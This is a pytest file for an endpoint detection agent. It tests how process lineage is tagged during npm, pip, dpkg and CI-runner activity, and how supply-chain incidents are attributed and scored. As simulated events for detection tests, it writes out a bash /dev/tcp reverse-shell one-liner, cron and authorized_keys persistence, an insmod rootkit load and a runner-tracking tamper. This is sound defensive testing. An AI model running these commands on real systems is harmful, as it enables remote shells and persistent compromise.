"""Install/CI contexts: root recognition, inheritance, kernel sync, attribution, persistence and escalation."""

from __future__ import annotations

from typing import Any

import pytest

from agent.abi.layout import CONTEXTS
from agent.events import FLAG_SEEDED, Exec, FileWrite, ModuleLoad
from agent.lineage.identity import process_key
from tests.helpers.events import REMOTE
from tests.unit.test_detectors import RULES, World, check_contract

LISTS = RULES.lists
NPM = "/usr/lib/node_modules/npm/bin/npm-cli.js"
NPM_ENV = {"npm_package_name": "evil-pkg", "npm_package_version": "1.0.3", "npm_lifecycle_event": "postinstall"}


def root_of(filename: str, *argv: str) -> str | None:
    found = LISTS.context_root_for(filename, argv)
    return found[0].context if found else None


@pytest.mark.parametrize(
    ("filename", "argv", "context"),
    [
        ("/usr/bin/node", ("node", "/usr/bin/npm", "install"), "package_install_npm"),
        ("/usr/bin/node", ("node", NPM, "ci"), "package_install_npm"),
        ("/usr/bin/node", ("node", "/usr/bin/npm", "--prefix", "/src", "i", "./x.tgz"), "package_install_npm"),
        ("/usr/bin/npm", ("npm", "install"), "package_install_npm"),
        ("/usr/bin/node", ("node", "/usr/bin/npx", "cowsay"), "package_install_npm"),
        ("/usr/bin/node", ("node", "/usr/bin/yarn"), "package_install_yarn"),
        ("/usr/local/bin/pnpm", ("pnpm", "add", "left-pad"), "package_install_pnpm"),
        ("/usr/bin/python3.11", ("python3", "-m", "pip", "install", "./pkg"), "package_install_pip"),
        ("/venv/bin/pip3.11", ("/venv/bin/python", "/venv/bin/pip3.11", "install", "x"), "package_install_pip"),
        ("/usr/bin/python3", ("/venv/bin/python", "/venv/bin/pip", "wheel", "x"), "package_install_pip"),
        ("/root/.cargo/bin/uv", ("uv", "pip", "install", "x"), "package_install_uv"),
        ("/usr/bin/python3", ("python3", "/usr/bin/poetry", "install"), "package_install_poetry"),
        ("/usr/bin/ruby3.1", ("ruby", "/usr/bin/gem", "install", "rails"), "package_install_gem"),
        ("/src/target/debug/build/evil-1a2b/build-script-build", ("build-script-build",), "package_install_cargo"),
        ("/usr/bin/php8.2", ("php", "/usr/local/bin/composer", "require", "a/b"), "package_install_composer"),
        ("/usr/bin/dpkg", ("dpkg", "-i", "x.deb"), "package_install_dpkg"),
        (
            "/var/lib/dpkg/info/x.postinst",
            ("/bin/sh", "/var/lib/dpkg/info/x.postinst", "configure"),
            "package_install_dpkg",
        ),
        ("/usr/bin/rpm", ("rpm", "-Uvh", "x.rpm"), "package_install_rpm"),
        (
            "/opt/runner/bin/Runner.Worker",
            ("/opt/runner/bin/Runner.Worker", "spawnclient", "3", "4"),
            "cicd_runner_github_actions",
        ),
        ("/usr/bin/gitlab-runner", ("gitlab-runner", "run"), "cicd_runner_gitlab"),
        ("/usr/bin/java", ("java", "-jar", "/home/jenkins/agent.jar", "-url", "x"), "cicd_runner_jenkins"),
        ("/usr/bin/buildkite-agent", ("buildkite-agent", "bootstrap"), "cicd_runner_buildkite"),
    ],
)
def test_roots_are_recognised_by_path_and_argv(filename: str, argv: tuple[str, ...], context: str) -> None:
    assert root_of(filename, *argv) == context


@pytest.mark.parametrize(
    ("filename", "argv"),
    [
        ("/usr/bin/node", ("node", "/usr/bin/npm", "--version")),
        ("/usr/bin/node", ("node", "/usr/bin/npm", "run", "build")),
        ("/usr/bin/node", ("node", "-e", "require('/usr/bin/npm')")),
        ("/usr/bin/python3", ("python3", "-m", "pip", "list")),
        ("/usr/bin/python3", ("python3", "setup.py", "install")),
        ("/usr/bin/dpkg", ("dpkg", "-l")),
        ("/usr/bin/rpm", ("rpm", "-qa")),
        ("/usr/bin/apt-get", ("apt-get", "update")),
        ("/usr/bin/bash", ("Runner.Worker",)),  # argv[0] and comm are chosen by the caller: never enough
    ],
)
def test_non_roots(filename: str, argv: tuple[str, ...]) -> None:
    assert root_of(filename, *argv) is None


def test_kernel_names_are_exact_names_without_argv_conditions_cut_like_comm() -> None:
    names = LISTS.kernel_context_names()
    assert names["Runner.Worker"] == CONTEXTS["cicd_runner_github_actions"]
    assert names["build-script-bu"] == CONTEXTS["package_install_cargo"]  # comm keeps 15 bytes
    assert "npm" not in names and "pip" not in names  # these need their argv: userspace decides


def context(world: World, pid: int) -> str | None:
    proc = world.table.get(process_key(pid, world.start[pid]))
    ctx = proc.tags.get("context") if proc else None
    return getattr(ctx, "name", None)


def npm_install(world: World, t: float = 0.0) -> None:
    """bash (10) -> npm install (11) -> sh -c postinstall (12)."""
    world.spawn(10, None, "/usr/bin/bash", ("bash",), t=t)
    world.spawn(11, 10, "/usr/bin/node", ("node", "/usr/bin/npm", "install", "./evil-pkg-1.0.3.tgz"), t=t + 0.1)
    world.spawn(12, 11, "/usr/bin/dash", ("sh", "-c", "node install.js"), t=t + 0.2, env=NPM_ENV)


def test_context_is_inherited_through_setsid_double_fork_and_unset_labels() -> None:
    w = World()
    npm_install(w)
    assert [context(w, p) for p in (10, 11, 12)] == [None, "package_install_npm", "package_install_npm"]
    w.fork(13, 12, 0.3)  # (…) &
    w.spawn(14, 13, "/usr/bin/setsid", ("setsid", "bash", "-c", "…"), t=0.31)
    w.fork(15, 14, 0.32)
    w.spawn(16, 15, "/usr/bin/bash", ("bash", "-i"), t=0.33)  # env -u npm_*: no labels at all
    w.ppid[16] = 1  # the daemon was re-parented to init: lineage was recorded at fork
    assert context(w, 16) == "package_install_npm"
    root = w.table.get(process_key(16, w.start[16])).tags["context"].root
    assert root == process_key(11, w.start[11])


def test_package_install_inside_ci_job_takes_over_and_keeps_the_job_for_attribution() -> None:
    w = World()
    w.spawn(20, None, "/opt/runner/bin/Runner.Worker", ("Runner.Worker", "spawnclient"))
    ci_env = {"GITHUB_REPOSITORY": "org/repo", "GITHUB_RUN_ID": "123", "GITHUB_JOB": "build"}
    w.spawn(21, 20, "/usr/bin/bash", ("bash", "-e", "/tmp/step.sh"), t=0.1, env=ci_env)
    assert context(w, 21) == "cicd_runner_github_actions"
    w.spawn(22, 21, "/usr/bin/node", ("node", "/usr/bin/npm", "ci"), t=0.2, env=ci_env)
    w.spawn(23, 22, "/usr/bin/dash", ("sh", "-c", "x"), t=0.3, env={**ci_env, **NPM_ENV})
    assert context(w, 23) == "package_install_npm"
    # and a CI runner started inside an install does not take over
    w.spawn(24, 23, "/usr/bin/gitlab-runner", ("gitlab-runner", "exec"), t=0.4)
    assert context(w, 24) == "package_install_npm"


def test_seeded_processes_get_their_context() -> None:
    w = World()
    w.start[30], w.ppid[30], w.comm[30] = 1, 1, "Runner.Worker"
    w.feed(Exec(**w.header(30, 0), filename="/opt/r/bin/Runner.Worker", args=("Runner.Worker",), flags=FLAG_SEEDED))
    w.start[31], w.ppid[31], w.comm[31] = 2, 30, "bash"
    w.feed(Exec(**w.header(31, 0), filename="/usr/bin/bash", args=("bash",), flags=FLAG_SEEDED))
    assert context(w, 31) == "cicd_runner_github_actions"
    # Both were written into the kernel map, so what they start later inherits in the kernel too.
    ctx_id = CONTEXTS["cicd_runner_github_actions"]
    assert {(pid, c, root) for pid, _, c, root, _ in w.kernel_writes} == {(30, ctx_id, 30), (31, ctx_id, 30)}


def test_kernel_is_written_only_where_it_disagrees_and_only_once() -> None:
    w = World()
    npm_install(w)  # npm is an argv root: the kernel could not tag it by name
    assert [wr[:3] for wr in w.kernel_writes] == [
        (11, w.start[11], CONTEXTS["package_install_npm"]),
        (12, w.start[12], CONTEXTS["package_install_npm"]),
    ]
    count = len(w.kernel_writes)
    w.connect(12, REMOTE, 4444, 0.5)  # the header still says "no context": already written, not again
    assert len(w.kernel_writes) == count


def test_kernel_context_is_used_when_the_lineage_is_missing() -> None:
    w = World()
    w.spawn(40, None, "/usr/bin/gitlab-runner", ("gitlab-runner", "run"))
    # pid 41's fork was lost; its exec says the kernel holds it in pid 40's context.
    w.start[41], w.ppid[41], w.comm[41] = int(2e12), 999, "bash"
    hdr = {
        **w.header(41, 1.0),
        "context": CONTEXTS["cicd_runner_gitlab"],
        "context_root_pid": 40,
        "context_root_start": w.start[40],
    }
    w.feed(Exec(**hdr, filename="/usr/bin/bash", args=("bash",)))
    assert context(w, 41) == "cicd_runner_gitlab"
    assert w.tagger.kernel_fallbacks == 1


def reverse_shell(w: World, pid: int, parent: int, t: float, **env: Any) -> None:
    w.spawn(pid, parent, "/usr/bin/bash", ("bash", "-c", f"bash -i >& /dev/tcp/{REMOTE}/4444 0>&1"), t=t, env=env)
    w.connect(pid, REMOTE, 4444, t + 0.01)
    w.dup(pid, 0, t + 0.02)
    w.exec(
        pid,
        "/usr/bin/bash",
        ("bash", "-i"),
        t + 0.03,
        stdio=("socket",) * 3,
        stdio_socket_fd=0,
        stdio_family="ipv4",
        stdio_transport="tcp",
        stdio_daddr=REMOTE,
        stdio_dport=4444,
        env=env,
    )


def cron_write(w: World, pid: int, parent: int, t: float, path: str = "/etc/cron.d/x") -> None:
    w.spawn(pid, parent, "/usr/bin/tee", ("tee", path), t=t)
    w.file_write(pid, path, t + 0.01)


def test_npm_postinstall_reverse_shell_then_cron_is_one_incident_high_then_critical() -> None:
    w = World()
    npm_install(w)
    reverse_shell(w, 13, 12, 0.3, **NPM_ENV)
    # The shell's connect alone is a notice (a probe, issue 11); its socket on stdin makes the incident high.
    assert [a["event"]["severity"] for a in w.alerts] == [21, 73]
    first = w.alerts[-1]
    check_contract(first)
    sc = first["supply_chain"]
    assert sc["context"] == "package_install_npm"
    assert sc["package"] == {"manager": "npm", "name": "evil-pkg", "version": "1.0.3", "hook": "postinstall"}
    assert sc["root"]["pid"] == 11
    # a daemonised grandchild writes cron 30 s later, without the npm_* labels
    w.fork(14, 13, 30.0)
    cron_write(w, 15, 14, 30.1)
    last = w.alerts[-1]
    check_contract(last)
    assert last["event"]["severity"] == 99 and last["chainwatch"]["severity"] == "critical"
    assert last["chainwatch"]["incident"]["id"] == first["chainwatch"]["incident"]["id"]
    assert last["file"] == {"path": "/etc/cron.d/x"}
    assert last["destination"] == {"ip": REMOTE, "port": 4444}
    assert last["supply_chain"]["package"]["name"] == "evil-pkg"  # from the nearest ancestor that had it
    assert last["chainwatch"]["artifacts"] == {"destinations": [f"{REMOTE}:4444"], "files": ["/etc/cron.d/x"]}
    assert len({a["chainwatch"]["incident"]["id"] for a in w.alerts}) == 1


def test_persistence_alone_in_a_context_is_medium_and_outside_is_low() -> None:
    w = World()
    npm_install(w)
    cron_write(w, 13, 12, 0.3)
    assert [a["event"]["severity"] for a in w.alerts] == [47]
    assert w.alerts[0]["supply_chain"]["context"] == "package_install_npm"
    w.spawn(50, None, "/usr/bin/bash", ("bash",), t=1.0)
    cron_write(w, 51, 50, 1.1, path="/root/.ssh/authorized_keys")
    outside = w.alerts[-1]
    assert outside["event"]["severity"] == 21 and outside["supply_chain"] == {"context": None}
    assert outside["file"]["path"] == "/root/.ssh/authorized_keys"


def test_reverse_shell_outside_any_context_keeps_its_rule_severity() -> None:
    w = World()
    w.bash()
    reverse_shell(w, 201, 200, 0.1)
    assert {a["supply_chain"]["context"] for a in w.alerts} == {None}
    assert max(a["event"]["severity"] for a in w.alerts) == 73  # stdio-to-socket and Sigma are high


def test_dpkg_unpacking_its_own_cron_file_is_not_persistence_but_its_maintainer_script_is() -> None:
    w = World()
    w.spawn(60, None, "/usr/bin/dpkg", ("dpkg", "-i", "/tmp/cronpkg_1.0_all.deb"))
    w.feed(FileWrite(**w.header(60, 0.1), path="/etc/cron.d/cronpkg.dpkg-new", operation="open", flags_open=0o101))
    w.feed(
        FileWrite(
            **w.header(60, 0.2),
            path="/etc/cron.d/cronpkg",
            source_path="/etc/cron.d/cronpkg.dpkg-new",
            operation="rename",
        )
    )
    assert w.alerts == [] and w.engine.detectors.unpacker_writes == 2
    postinst = {"DPKG_MAINTSCRIPT_PACKAGE": "cronpkg", "DPKG_MAINTSCRIPT_NAME": "postinst"}
    w.spawn(
        61,
        60,
        "/var/lib/dpkg/info/cronpkg.postinst",
        ("/bin/sh", "/var/lib/dpkg/info/cronpkg.postinst", "configure"),
        t=0.3,
        env=postinst,
    )
    cron_write(w, 62, 61, 0.4, path="/etc/cron.d/backdoor")
    (alert,) = w.alerts
    assert alert["event"]["severity"] == 47
    assert alert["supply_chain"]["package"] == {"manager": "dpkg", "name": "cronpkg", "hook": "postinst"}
    assert alert["file"]["path"] == "/etc/cron.d/backdoor"


def test_module_load_is_persistence() -> None:
    w = World()
    npm_install(w)
    w.spawn(13, 12, "/usr/sbin/insmod", ("insmod", "/tmp/rk.ko"), t=0.3)
    w.feed(
        ModuleLoad(
            **w.header(13, 0.31),
            source="exec",
            syscall="execve",
            filename="/usr/sbin/insmod",
            args=("insmod", "/tmp/rk.ko"),
        )
    )
    (alert,) = w.alerts
    assert alert["file"]["path"] == "/tmp/rk.ko" and alert["event"]["severity"] == 47


def github_job(w: World, tracking: str = "github_abc") -> dict[str, str]:
    env = {
        "GITHUB_REPOSITORY": "org/repo",
        "GITHUB_RUN_ID": "123",
        "GITHUB_JOB": "build",
        "GITHUB_WORKFLOW": "CI",
        "RUNNER_TRACKING_ID": tracking,
    }
    w.spawn(70, None, "/opt/runner/bin/Runner.Worker", ("Runner.Worker", "spawnclient"))
    w.spawn(71, 70, "/usr/bin/bash", ("bash", "-e", "/home/runner/work/_temp/step.sh"), t=0.1, env=env)
    return env


def test_ci_reverse_shell_names_the_job() -> None:
    w = World()
    env = github_job(w)
    reverse_shell(w, 72, 71, 0.2, **env)
    alert = w.alerts[0]
    assert alert["supply_chain"]["context"] == "cicd_runner_github_actions"
    assert alert["supply_chain"]["ci"] == {
        "provider": "github_actions",
        "repository": "org/repo",
        "workflow": "CI",
        "run_id": "123",
        "job": "build",
    }
    assert "package" not in alert["supply_chain"]


def test_gitlab_job_attribution() -> None:
    w = World()
    w.spawn(80, None, "/usr/bin/gitlab-runner", ("gitlab-runner", "run"))
    env = {"CI_PROJECT_PATH": "group/app", "CI_PIPELINE_ID": "555", "CI_JOB_ID": "9001", "CI_JOB_NAME": "test"}
    w.spawn(81, 80, "/usr/bin/bash", ("bash", "--login"), t=0.1, env=env)
    reverse_shell(w, 82, 81, 0.2, **env)
    assert w.alerts[0]["supply_chain"]["ci"] == {
        "provider": "gitlab",
        "repository": "group/app",
        "run_id": "555",
        "job": "test",
        "job_id": "9001",
    }


def test_runner_tracking_id_change_is_a_signal_in_the_job() -> None:
    w = World()
    env = github_job(w)
    w.spawn(72, 71, "/usr/bin/make", ("make",), t=0.2, env=env)
    assert w.alerts == []  # the runner's own id: nothing
    w.spawn(73, 71, "/usr/bin/nohup", ("nohup", "./miner"), t=0.3, env={**env, "RUNNER_TRACKING_ID": "0"})
    (alert,) = w.alerts
    assert alert["chainwatch"]["signals"] == ["runner_tracking_tamper"]
    assert alert["event"]["severity"] == 47


def test_labels_are_labels_only() -> None:
    """Forged npm_* labels outside any install do not make a context; the alert stays context-free."""
    w = World()
    w.bash()
    reverse_shell(w, 201, 200, 0.1, **NPM_ENV)
    assert {a["supply_chain"]["context"] for a in w.alerts} == {None}


def test_pip_attribution_from_build_directory_and_requirement() -> None:
    w = World()
    w.spawn(
        90, None, "/venv/bin/python3", ("/venv/bin/python3", "/venv/bin/pip", "install", "/tmp/src/evilpy-2.0.tar.gz")
    )
    w.spawn(
        91,
        90,
        "/venv/bin/python3",
        ("/venv/bin/python3", "/venv/lib/pip/_in_process.py", "get_requires_for_build_wheel", "/tmp/tmpabc"),
        t=0.1,
    )
    reverse_shell(w, 92, 91, 0.2)
    pkg = w.alerts[0]["supply_chain"]["package"]
    assert pkg == {"manager": "pip", "name": "evilpy", "version": "2.0", "hook": "get_requires_for_build_wheel"}


def test_pip_attribution_from_a_pip_install_directory() -> None:
    w = World()
    w.spawn(90, None, "/usr/bin/python3", ("python3", "-m", "pip", "install", "evilpy", "other"))
    w.spawn(
        91,
        90,
        "/usr/bin/python3",
        ("python3", "/tmp/pip-install-x1/evilpy_" + "0" * 32 + "/setup.py", "egg_info"),
        t=0.1,
    )
    reverse_shell(w, 92, 91, 0.2)
    assert w.alerts[0]["supply_chain"]["package"] == {"manager": "pip", "name": "evilpy", "hook": "setup.py"}
    # a bare build directory names nothing, and setup.py is not a package name
    w2 = World()
    w2.spawn(90, None, "/usr/bin/python3", ("python3", "-m", "pip", "install", "/src/cw-evil-1.0.tar.gz"))
    w2.spawn(91, 90, "/usr/bin/python3", ("python3", "/tmp/pip-req-build-ab12/setup.py", "install"), t=0.1)
    reverse_shell(w2, 92, 91, 0.2)
    assert w2.alerts[0]["supply_chain"]["package"]["name"] == "cw-evil"


def test_root_name_memo_agrees_with_the_patterns_and_stays_bounded(monkeypatch) -> None:
    """context_root_for skips the roots for names no root's patterns match, remembered per name: the answer is
    the unmemoized one, asked once or many times, and the memo never grows past its bound."""
    import agent.ruleset.lists as lists_module
    from agent.ruleset.contexts import invocations

    def unmemoized(filename: str, argv: tuple[str, ...]) -> str | None:
        calls = invocations(filename, argv, LISTS.script_interpreters)
        return next((root.context for root in LISTS.context_roots if root.match(filename, calls)), None)

    cases = [
        ("/bin/true", ("/bin/true",)),
        ("/usr/bin/gcc", ("gcc", "-c", "x.c")),
        ("/usr/bin/npm", ("npm", "install")),
        ("/usr/bin/npm", ("npm", "--version")),
        ("/usr/bin/python3", ("python3", "-m", "pip", "install", "x")),
    ]
    for _ in range(2):
        for filename, argv in cases:
            assert root_of(filename, *argv) == unmemoized(filename, argv), (filename, argv)
    monkeypatch.setattr(lists_module, "ROOT_NAME_CACHE_MAX", 8)
    for i in range(50):
        assert root_of(f"/tmp/tool{i}", f"tool{i}") is None
    assert len(LISTS._root_name_cache) <= 8
